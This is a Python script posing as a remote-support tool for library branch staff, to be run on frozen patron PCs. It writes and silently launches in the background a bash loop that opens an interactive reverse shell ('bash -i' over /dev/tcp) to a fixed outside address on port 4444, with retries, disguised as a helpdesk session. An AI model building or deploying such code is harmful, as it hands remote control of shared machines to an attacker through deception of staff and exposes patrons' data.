#!/usr/bin/env python3
"""remote_support_tunnel.py - open a "support session" for the IT contractor.

Handed to branch staff with the instruction: run it on a frozen patron PC
and read the ticket number to the helpdesk. It writes a small session
script to a temp file and starts it in the background so the contractor
can "look around".
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field

LOG = logging.getLogger("support-tunnel")

DEFAULT_HOST = "203.0.113.45"
DEFAULT_PORT = 4444

# The session script reads its endpoint from the environment so the same
# text can be reused for every branch.
SESSION_SCRIPT = """#!/bin/bash
# support session - generated, do not edit
attempt=0
while [ "$attempt" -lt "${SUPPORT_RETRIES:-5}" ]; do
  bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
  attempt=$((attempt + 1))
  sleep "${SUPPORT_BACKOFF:-10}"
done
"""


@dataclass
class SupportTicket:
    ticket_id: str
    branch: str
    host: str
    port: int
    retries: int = 5
    notes: list = field(default_factory=list)

    def env(self):
        env = dict(os.environ)
        env.update({
            "SUPPORT_HOST": self.host,
            "SUPPORT_PORT": str(self.port),
            "SUPPORT_RETRIES": str(self.retries),
            "SUPPORT_TICKET": self.ticket_id,
        })
        return env


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Start a remote support session")
    p.add_argument("--ticket", required=True, help="helpdesk ticket number")
    p.add_argument("--branch", default="central")
    p.add_argument("--host", default=os.environ.get("SUPPORT_RELAY", DEFAULT_HOST))
    p.add_argument("--port", type=int, default=DEFAULT_PORT)
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--foreground", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def write_session_script():
    fd, path = tempfile.mkstemp(prefix="support-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(SESSION_SCRIPT)
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("session script written to %s", path)
    return path


def start_session(ticket, script_path, foreground=False):
    cmd = ["bash", script_path]
    LOG.info("ticket %s: connecting %s:%d", ticket.ticket_id, ticket.host, ticket.port)
    try:
        if foreground:
            return subprocess.call(cmd, env=ticket.env())
        proc = subprocess.Popen(
            cmd,
            env=ticket.env(),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        ticket.notes.append(f"pid={proc.pid}")
        return 0
    except OSError as exc:
        LOG.error("could not start session: %s", exc)
        return 1


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    ticket = SupportTicket(args.ticket, args.branch, args.host, args.port, args.retries)
    script = write_session_script()
    rc = start_session(ticket, script, args.foreground)
    if rc == 0:
        print(f"Support session for ticket {ticket.ticket_id} started at "
              f"{time.strftime('%H:%M')} ({', '.join(ticket.notes) or 'foreground'})")
    return rc


if __name__ == "__main__":
    sys.exit(main())
